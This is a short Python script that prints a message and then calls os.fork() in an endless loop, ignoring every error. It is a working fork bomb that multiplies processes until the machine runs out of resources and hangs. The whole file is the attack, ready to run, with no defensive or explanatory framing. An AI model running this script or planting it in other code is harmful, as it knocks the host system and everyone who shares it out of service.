import os

print("Each process starts another, for ever.", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
